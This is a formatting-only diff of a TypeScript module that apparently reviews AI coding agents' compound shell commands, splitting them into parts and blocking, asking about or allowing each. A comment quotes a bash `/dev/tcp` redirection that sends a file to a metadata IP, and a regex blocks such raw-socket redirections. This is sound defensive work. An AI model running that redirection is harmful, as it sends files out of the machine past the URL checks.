@@ -14,7 +14,14 @@ import { REASON_CODES } from '../reasonCodes.js';
 import type { ReasonCode } from '../reasonCodes.js';
 import { combine } from './combine.js';
 import { compoundRefusalAdvice } from './compoundAdvice.js';
-import { assignmentCount, changesShell, coreWords, isAgentCwdFile, isEnvelopeBuiltin, makesLinks } from './compoundParts.js';
+import {
+  assignmentCount,
+  changesShell,
+  coreWords,
+  isAgentCwdFile,
+  isEnvelopeBuiltin,
+  makesLinks,
+} from './compoundParts.js';
 import { judgeEnvelopeEffects } from './envelopeEffects.js';
 import { CLAUDE_VERSION_GUARDS } from '../shell/envelopes/claude.js';
 import type { ReviewState } from './reviewState.js';
@@ -78,9 +85,17 @@ interface Walk {
   budget: GlobBudget;
 }
 type Cwds = string[];
-interface Outcome { ok: Cwds; fail: Cwds }
+interface Outcome {
+  ok: Cwds;
+  fail: Cwds;
+}
 
-const refuseVerdict = (reasons: readonly Reason[]): Verdict => ({ decision: 'block', risk: 'medium', reasons: [...reasons], rule_ids: [] });
+const refuseVerdict = (reasons: readonly Reason[]): Verdict => ({
+  decision: 'block',
+  risk: 'medium',
+  reasons: [...reasons],
+  rule_ids: [],
+});
 
 /**
  * Shell text that is not one simple command, judged part by part with the shell grammar: every
@@ -89,13 +104,30 @@ const refuseVerdict = (reasons: readonly Reason[]): Verdict => ({ decision: 'blo
  * grammar is not loaded (the caller refuses). `strict`: only an agent's own envelope parts may be
  * compound, and the model's command inside its `eval` must be one simple command.
  */
-export function reviewCompound(text: string, state: ReviewState, depth: number, hop: 'agent' | 'nested', strict: boolean, decode: WordDecoder): CompoundOutcome | undefined {
+export function reviewCompound(
+  text: string,
+  state: ReviewState,
+  depth: number,
+  hop: 'agent' | 'nested',
+  strict: boolean,
+  decode: WordDecoder,
+): CompoundOutcome | undefined {
   const grammar = state.facts.grammar?.loaded();
   if (!grammar) return undefined;
   // The workspace stays where the text started: a `cd` moves where later parts run, not where
   // writes need no approval (`cd / && echo x > o` writes outside the workspace).
   const pinned: ReviewState = { ...state, workspace: state.workspace ?? state.cwd };
-  const w: Walk = { state: pinned, depth, strict, env: [], parts: [], refusals: new Map(), evalTexts: [], edits: [], budget: newGlobBudget() };
+  const w: Walk = {
+    state: pinned,
+    depth,
+    strict,
+    env: [],
+    parts: [],
+    refusals: new Map(),
+    evalTexts: [],
+    edits: [],
+    budget: newGlobBudget(),
+  };
   const agent = state.agent?.toLowerCase();
   const envelopeLevel = hop === 'agent' && depth === 0 && (!agent || ENVELOPE_AGENTS.has(agent));
   const body = envelopeLevel ? withoutVersionGuard(text, w, [state.cwd], depth) : text;
@@ -114,14 +146,30 @@ function withoutVersionGuard(text: string, w: Walk, cwds: Cwds, depth: number): 
   const guard = CLAUDE_VERSION_GUARDS.find((g) => text.startsWith(`${g} && `));
   if (!guard) return text;
   w.envelope = 'claude';
-  addPart(w, depth, guard, [], cwds, verdict('allow', 'low', 'envelope.version_guard', "Claude Code's bash version guard: stops a bash older than 4 or 5, does nothing on this one"), undefined, true);
+  addPart(
+    w,
+    depth,
+    guard,
+    [],
+    cwds,
+    verdict(
+      'allow',
+      'low',
+      'envelope.version_guard',
+      "Claude Code's bash version guard: stops a bash older than 4 or 5, does nothing on this one",
+    ),
+    undefined,
+    true,
+  );
   // Padded to the guard's length: positions in the parsed text stay positions in the agent's text
   // (expansions are written back there; review pass of 1 Dec 2026).
   return `${'true'.padEnd(guard.length)}${text.slice(guard.length)}`;
 }
 
 function finish(w: Walk): CompoundOutcome {
-  const refused = w.refusals.size ? refuseVerdict(compoundRefusalAdvice([...w.refusals].map(([code, message]) => ({ code, message })))) : undefined;
+  const refused = w.refusals.size
+    ? refuseVerdict(compoundRefusalAdvice([...w.refusals].map(([code, message]) => ({ code, message }))))
+    : undefined;
   const all = [...w.parts.map((p) => p.verdict), ...(refused ? [refused] : [])];
   const v = combine(...all);
   // Text at the agent's hop is the agent's own only when it was recognised as its envelope.
@@ -141,17 +189,31 @@ function refuse(w: Walk, code: ReasonCode, detail?: string): void {
 
 function parseScript(text: string, w: Walk, decode: WordDecoder): Script | undefined {
   const prepared = prepareText(text, w.state.facts.grammar!.loaded()!);
-  if (!prepared.ok) { for (const r of prepared.reasons) if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message); return undefined; }
+  if (!prepared.ok) {
+    for (const r of prepared.reasons)
+      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
+    return undefined;
+  }
   const built = scriptFromTree(prepared.prepared, decode);
-  if (!built.ok) { for (const r of built.reasons) if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message); return undefined; }
-  if (countSimple(built.script) > MAX_PARTS) { refuse(w, 'syntax.too_many_parts', `more than ${MAX_PARTS} commands`); return undefined; }
+  if (!built.ok) {
+    for (const r of built.reasons)
+      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
+    return undefined;
+  }
+  if (countSimple(built.script) > MAX_PARTS) {
+    refuse(w, 'syntax.too_many_parts', `more than ${MAX_PARTS} commands`);
+    return undefined;
+  }
   return built.script;
 }
 
 function union(a: Cwds, b: Cwds, w: Walk): Cwds {
   const out = [...a];
   for (const c of b) if (!out.includes(c)) out.push(c);
-  if (out.length > MAX_CWDS) { refuse(w, 'syntax.too_many_parts', `more than ${MAX_CWDS} possible directories`); return out.slice(0, MAX_CWDS); }
+  if (out.length > MAX_CWDS) {
+    refuse(w, 'syntax.too_many_parts', `more than ${MAX_CWDS} possible directories`);
+    return out.slice(0, MAX_CWDS);
+  }
   return out;
 }
 
@@ -161,7 +223,8 @@ function union(a: Cwds, b: Cwds, w: Walk): Cwds {
  */
 function walk(s: Script, cwds: Cwds, w: Walk, envelopeLevel: boolean, depth: number, decode: WordDecoder): Outcome {
   switch (s.kind) {
-    case 'simple': return simple(s, cwds, w, envelopeLevel, depth, decode);
+    case 'simple':
+      return simple(s, cwds, w, envelopeLevel, depth, decode);
     case 'and': {
       const l = walk(s.left, cwds, w, envelopeLevel, depth, decode);
       const r = walk(s.right, l.ok, w, envelopeLevel, depth, decode);
@@ -188,15 +251,35 @@ function walk(s: Script, cwds: Cwds, w: Walk, envelopeLevel: boolean, depth: num
     case 'subshell':
     case 'group': {
       // Which of the inner commands reads it is not followed.
-      if (s.redirects.some((r) => r.here !== undefined)) { refuse(w, 'syntax.heredoc', `on a ${s.kind}; give it to the command that reads it`); return { ok: cwds, fail: cwds }; }
-      if (s.redirects.length) addPart(w, depth, `${s.kind === 'group' ? '{ … }' : '( … )'} redirections`, [], cwds, judgeRedirects(s.redirects, cwds, w));
+      if (s.redirects.some((r) => r.here !== undefined)) {
+        refuse(w, 'syntax.heredoc', `on a ${s.kind}; give it to the command that reads it`);
+        return { ok: cwds, fail: cwds };
+      }
+      if (s.redirects.length)
+        addPart(
+          w,
+          depth,
+          `${s.kind === 'group' ? '{ … }' : '( … )'} redirections`,
+          [],
+          cwds,
+          judgeRedirects(s.redirects, cwds, w),
+        );
       const inner = walk(s.body, cwds, w, envelopeLevel, depth, decode);
       return s.kind === 'group' ? inner : { ok: cwds, fail: cwds };
     }
   }
 }
 
-function addPart(w: Walk, depth: number, text: string, argv: string[], cwds: Cwds, v: Verdict, forEngine?: CompoundPart['forEngine'], envelopeLevel?: boolean): void {
+function addPart(
+  w: Walk,
+  depth: number,
+  text: string,
+  argv: string[],
+  cwds: Cwds,
+  v: Verdict,
+  forEngine?: CompoundPart['forEngine'],
+  envelopeLevel?: boolean,
+): void {
   const cwd = cwds.join(' | ');
   const part: CompoundPart = { text, argv, cwd, verdict: v };
   if (forEngine) part.forEngine = forEngine;
@@ -214,7 +297,15 @@ function judgeRedirects(rs: readonly Redirect[], cwds: Cwds, w: Walk, skip?: (r:
     // bash opens `/dev/tcp/HOST/PORT` and `/dev/udp/…` as network sockets, in either direction
     // (attack pass 4: `cat f 3</dev/tcp/169.254.169.254/80 >&3` sends f): never a file.
     if (/^\/dev\/+(?:tcp|udp)\//.test(r.target) || /^\/dev\/(?:tcp|udp)\//.test(normalizePosix(r.target))) {
-      parts.push(verdict('block', 'high', 'url.raw_socket', `the redirection ${r.op} ${r.target} opens a network connection from bash itself, past the URL checks`, 'urls:raw-socket'));
+      parts.push(
+        verdict(
+          'block',
+          'high',
+          'url.raw_socket',
+          `the redirection ${r.op} ${r.target} opens a network connection from bash itself, past the URL checks`,
+          'urls:raw-socket',
+        ),
+      );
       continue;
     }
     const access: PathAccess = r.op === '<' ? 'read' : 'write';
@@ -225,7 +316,14 @@ function judgeRedirects(rs: readonly Redirect[], cwds: Cwds, w: Walk, skip?: (r:
   return combine(...parts);
 }
 
-function simple(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk, envelopeLevel: boolean, depth: number, decode: WordDecoder): Outcome {
+function simple(
+  s: Extract<Script, { kind: 'simple' }>,
+  cwds: Cwds,
+  w: Walk,
+  envelopeLevel: boolean,
+  depth: number,
+  decode: WordDecoder,
+): Outcome {
   const same: Outcome = { ok: cwds, fail: cwds };
   let { words } = s;
   if (s.expandable) {
@@ -252,7 +350,19 @@ function simple(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk, env
       const effects = judgeEnvelopeEffects({ name: 'claude', sourced: [core[1]!] }, w.state, 'agent');
       if (effects.reasons.length === 0) {
         w.envelope = 'claude';
-        addPart(w, depth, s.text, words, cwds, combine(verdict('allow', 'low', 'envelope.snapshot_source', `sources the agent's snapshot ${core[1]}`), judgeRedirects(s.redirects, cwds, w)), undefined, true);
+        addPart(
+          w,
+          depth,
+          s.text,
+          words,
+          cwds,
+          combine(
+            verdict('allow', 'low', 'envelope.snapshot_source', `sources the agent's snapshot ${core[1]}`),
+            judgeRedirects(s.redirects, cwds, w),
+          ),
+          undefined,
+          true,
+        );
         return same;
       }
     }
@@ -261,12 +371,27 @@ function simple(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk, env
       if ((r.op === '>|' || r.op === '>') && r.fd === undefined && isAgentCwdFile(r.target)) {
         w.envelope = 'claude';
         // Still judged as a write: `>|` follows a symlink planted under the cwd file's name.
-        addPart(w, depth, s.text, words, cwds, combine(verdict('allow', 'low', 'envelope.cwd_file', `writes the agent's cwd file ${r.target}`), judgeRedirects(s.redirects, cwds, w)), undefined, true);
+        addPart(
+          w,
+          depth,
+          s.text,
+          words,
+          cwds,
+          combine(
+            verdict('allow', 'low', 'envelope.cwd_file', `writes the agent's cwd file ${r.target}`),
+            judgeRedirects(s.redirects, cwds, w),
+          ),
+          undefined,
+          true,
+        );
         return same;
       }
     }
   }
-  if (name === 'eval' && s.expandable) { refuse(w, 'syntax.eval', 'with an expansion in its words'); return same; }
+  if (name === 'eval' && s.expandable) {
+    refuse(w, 'syntax.eval', 'with an expansion in its words');
+    return same;
+  }
   if (name === 'eval' && k === 0) return evalPart(s, core, cwds, w, envelopeLevel, depth, decode);
   const input = hereInput(s.redirects);
   if (input !== undefined && k === 0 && core.length === 2 && stdinReading(core, input).kind === 'source') {
@@ -276,13 +401,20 @@ function simple(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk, env
     return walkText(input, `${name} of a here-document`, cwds, w, depth, decode);
   }
   if (w.strict && !(envelopeLevel && isEnvelopeBuiltin(core))) return strictRefusal();
-  if (name === 'eval') { refuse(w, 'syntax.eval', 'with assignments before it'); return same; }
+  if (name === 'eval') {
+    refuse(w, 'syntax.eval', 'with assignments before it');
+    return same;
+  }
   if (w.changedBy !== undefined) {
     refuse(w, 'syntax.shell_state', `'${w.changedBy}' before '${s.text}'; run it as a command of its own`);
     return same;
   }
   if (w.linkedBy !== undefined) {
-    refuse(w, 'syntax.links_changed', `'${w.linkedBy}' can create or move symlinks before '${s.text}'; run it as a command of its own`);
+    refuse(
+      w,
+      'syntax.links_changed',
+      `'${w.linkedBy}' can create or move symlinks before '${s.text}'; run it as a command of its own`,
+    );
     return same;
   }
   if (changesShell(core) && !(envelopeLevel && isEnvelopeBuiltin(core))) w.changedBy = s.text;
@@ -302,15 +434,36 @@ function simple(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk, env
   }
   const reading = input === undefined ? undefined : stdinReading(core, input);
   // A shell or interpreter reading the text as its program is judged as if given it with -c.
-  const run = reading?.kind === 'shell' || reading?.kind === 'interpreter' ? [...words.slice(0, words.length - core.length), ...reading.argv] : words;
+  const run =
+    reading?.kind === 'shell' || reading?.kind === 'interpreter'
+      ? [...words.slice(0, words.length - core.length), ...reading.argv]
+      : words;
   const judged = w.env.length ? [...w.env, ...run] : run;
   const verdicts: Verdict[] = [];
-  if (reading) step(w.state, depth + 1, 'stdin', () => `here-input of ${name}: ${reading.kind === 'program' ? reading.what : reading.kind}`);
-  if (reading?.kind === 'program') verdicts.push(verdict('ask', 'high', 'command.inline_code', `the here-document is a program: ${reading.what}`));
+  if (reading)
+    step(
+      w.state,
+      depth + 1,
+      'stdin',
+      () => `here-input of ${name}: ${reading.kind === 'program' ? reading.what : reading.kind}`,
+    );
+  if (reading?.kind === 'program')
+    verdicts.push(verdict('ask', 'high', 'command.inline_code', `the here-document is a program: ${reading.what}`));
   // Normalised commands only for a Rego engine: the native hot path does not build them.
-  const forEngine = w.state.config.engine === 'native' ? undefined : { judged: [] as Array<{ cwd: string; normalized: NormalizedCommand }>, redirects: ALLOW_NOTHING_FOUND };
+  const forEngine =
+    w.state.config.engine === 'native'
+      ? undefined
+      : { judged: [] as Array<{ cwd: string; normalized: NormalizedCommand }>, redirects: ALLOW_NOTHING_FOUND };
   for (const cwd of cwds) {
-    const n: NormalizedCommand | undefined = forEngine && { command: s.text, argv: [...judged], envAssignments: {}, wrappers: [], effectiveArgv: [], paths: [], urls: [] };
+    const n: NormalizedCommand | undefined = forEngine && {
+      command: s.text,
+      argv: [...judged],
+      envAssignments: {},
+      wrappers: [],
+      effectiveArgv: [],
+      paths: [],
+      urls: [],
+    };
     verdicts.push(reviewWords(judged, { ...w.state, cwd }, depth + 2, n));
     if (forEngine && n) {
       if (n.effectiveArgv.length === 0) n.effectiveArgv = [...judged];
@@ -340,7 +493,12 @@ function feedLiterals(items: readonly Script[]): Script[] {
     if (a.kind !== 'simple' || b.kind !== 'simple' || a.words.length !== 1 || a.words[0] !== 'cat') continue;
     const body = hereInput(a.redirects);
     // Any other redirection of cat (its stdout elsewhere) or of the reader's stdin: not followed.
-    if (body === undefined || a.redirects.length !== 1 || b.redirects.some((r) => (r.fd ?? 0) === 0 && r.op.startsWith('<'))) continue;
+    if (
+      body === undefined ||
+      a.redirects.length !== 1 ||
+      b.redirects.some((r) => (r.fd ?? 0) === 0 && r.op.startsWith('<'))
+    )
+      continue;
     out[i + 1] = { ...b, redirects: [{ op: '<<', target: '', here: body }, ...b.redirects] };
   }
   return out;
@@ -360,12 +518,21 @@ function hereInput(rs: readonly Redirect[]): string | undefined {
 function walkText(inner: string, what: string, cwds: Cwds, w: Walk, depth: number, decode: WordDecoder): Outcome {
   const same: Outcome = { ok: cwds, fail: cwds };
   if (depth + 1 > MAX_NESTING) {
-    addPart(w, depth, what, [], cwds, verdict('block', 'high', 'command.nesting_too_deep', `${what} nested deeper than ${MAX_NESTING}`));
+    addPart(
+      w,
+      depth,
+      what,
+      [],
+      cwds,
+      verdict('block', 'high', 'command.nesting_too_deep', `${what} nested deeper than ${MAX_NESTING}`),
+    );
     return same;
   }
   step(w.state, depth + 1, 'eval', () => `${what} ${JSON.stringify(inner)}: reviewed as shell text`);
   const tok = decode(inner);
-  const script: Script | undefined = tok.ok ? { kind: 'simple', text: inner, words: tok.words, redirects: [] } : parseScript(inner, w, decode);
+  const script: Script | undefined = tok.ok
+    ? { kind: 'simple', text: inner, words: tok.words, redirects: [] }
+    : parseScript(inner, w, decode);
   if (!script) return same;
   const wasStrict = w.strict;
   w.strict = false;
@@ -374,18 +541,37 @@ function walkText(inner: string, what: string, cwds: Cwds, w: Walk, depth: numbe
   const outer = w.edits;
   w.edits = [];
   const out = walk(script, cwds, w, false, depth + 1, decode);
-  if (w.edits.length) refuse(w, 'syntax.rewrite_unavailable', `${what}: expand the words in the command itself, not in its input`);
+  if (w.edits.length)
+    refuse(w, 'syntax.rewrite_unavailable', `${what}: expand the words in the command itself, not in its input`);
   w.edits = outer;
   w.strict = wasStrict;
   return out;
 }
 
 /** `eval 'TEXT'`: the text runs in this same shell, so it is walked here, one level deeper. */
-function evalPart(s: Extract<Script, { kind: 'simple' }>, core: string[], cwds: Cwds, w: Walk, envelopeLevel: boolean, depth: number, decode: WordDecoder): Outcome {
+function evalPart(
+  s: Extract<Script, { kind: 'simple' }>,
+  core: string[],
+  cwds: Cwds,
+  w: Walk,
+  envelopeLevel: boolean,
+  depth: number,
+  decode: WordDecoder,
+): Outcome {
   const same: Outcome = { ok: cwds, fail: cwds };
-  if (core.length !== 2) { refuse(w, 'syntax.eval', `${core.length - 1} arguments; give eval one quoted string`); return same; }
+  if (core.length !== 2) {
+    refuse(w, 'syntax.eval', `${core.length - 1} arguments; give eval one quoted string`);
+    return same;
+  }
   if (depth + 1 > MAX_NESTING) {
-    addPart(w, depth, s.text, s.words, cwds, verdict('block', 'high', 'command.nesting_too_deep', `eval nested deeper than ${MAX_NESTING}`));
+    addPart(
+      w,
+      depth,
+      s.text,
+      s.words,
+      cwds,
+      verdict('block', 'high', 'command.nesting_too_deep', `eval nested deeper than ${MAX_NESTING}`),
+    );
     return same;
   }
   const inner = core[1]!;
@@ -396,7 +582,8 @@ function evalPart(s: Extract<Script, { kind: 'simple' }>, core: string[], cwds: 
   let script: Script | undefined;
   if (tok.ok) script = { kind: 'simple', text: inner, words: tok.words, redirects: [] };
   else if (w.strict) {
-    for (const r of tok.reasons) if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
+    for (const r of tok.reasons)
+      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
     return same;
   } else script = parseScript(inner, w, decode);
   if (!script) return same;
@@ -413,8 +600,15 @@ function evalPart(s: Extract<Script, { kind: 'simple' }>, core: string[], cwds: 
     // The eval's text is rewritten, then given back to eval as one single-quoted word.
     const span = s.spans?.[s.words.length - core.length + 1];
     const rewritten = applyEdits(inner, innerEdits);
-    if (!span || s.at === undefined || rewritten === undefined) refuse(w, 'syntax.rewrite_unavailable', 'the eval word could not be rewritten');
-    else w.edits.push({ start: s.at + span[0], end: s.at + span[1], replacement: singleQuote(rewritten), original: s.text.slice(span[0], span[1]) });
+    if (!span || s.at === undefined || rewritten === undefined)
+      refuse(w, 'syntax.rewrite_unavailable', 'the eval word could not be rewritten');
+    else
+      w.edits.push({
+        start: s.at + span[0],
+        end: s.at + span[1],
+        replacement: singleQuote(rewritten),
+        original: s.text.slice(span[0], span[1]),
+      });
   }
   return out;
 }
@@ -427,18 +621,26 @@ function expandPart(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk)
   }
   const assigned = new Set(w.env.map((a) => a.slice(0, a.indexOf('='))));
   const facts = w.state.facts;
-  const x = expandWords(s.expandable!, {
-    cwd: cwds.length === 1 ? cwds[0] : undefined,
-    vars: facts.shellVars,
-    assigned,
-    listDir: facts.listDir ? (d) => facts.listDir!(d) : undefined,
-    budget: w.budget,
-  }, s.at ?? 0);
+  const x = expandWords(
+    s.expandable!,
+    {
+      cwd: cwds.length === 1 ? cwds[0] : undefined,
+      vars: facts.shellVars,
+      assigned,
+      listDir: facts.listDir ? (d) => facts.listDir!(d) : undefined,
+      budget: w.budget,
+    },
+    s.at ?? 0,
+  );
   if (!x.ok) {
-    for (const r of x.reasons) if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
+    for (const r of x.reasons)
+      if (!w.refusals.has(r.code as ReasonCode)) w.refusals.set(r.code as ReasonCode, r.message);
     return undefined;
   }
-  if (s.at === undefined && x.edits.length) { refuse(w, 'syntax.rewrite_unavailable', s.text); return undefined; }
+  if (s.at === undefined && x.edits.length) {
+    refuse(w, 'syntax.rewrite_unavailable', s.text);
+    return undefined;
+  }
   const at = s.at ?? 0;
   w.edits.push(...x.edits.map((e) => ({ ...e, original: s.text.slice(e.start - at, e.end - at) })));
   step(w.state, w.depth + 1, 'expansion', () => `${s.text} → ${JSON.stringify(x.words)}`);
@@ -446,11 +648,15 @@ function expandPart(s: Extract<Script, { kind: 'simple' }>, cwds: Cwds, w: Walk)
 }
 
 /** The tokenizer as the word decoder of every part (the same words a simple command gets). */
-export function tokenizerDecoder(home: string, acceptGlobs: (words: string[], globWords: number[]) => boolean): WordDecoder {
+export function tokenizerDecoder(
+  home: string,
+  acceptGlobs: (words: string[], globWords: number[]) => boolean,
+): WordDecoder {
   return (text) => {
     const t = tokenize(text, { home, expand: true, spans: true });
     if (t.ok) return t;
-    if (t.globbed && acceptGlobs(t.globbed.words, t.globbed.globWords)) return { ok: true, words: t.globbed.words, spans: t.expandable?.spans };
+    if (t.globbed && acceptGlobs(t.globbed.words, t.globbed.globWords))
+      return { ok: true, words: t.globbed.words, spans: t.expandable?.spans };
     if (t.expandable) return { ok: false, reasons: t.reasons, expandable: t.expandable };
     return { ok: false, reasons: t.reasons };
   };
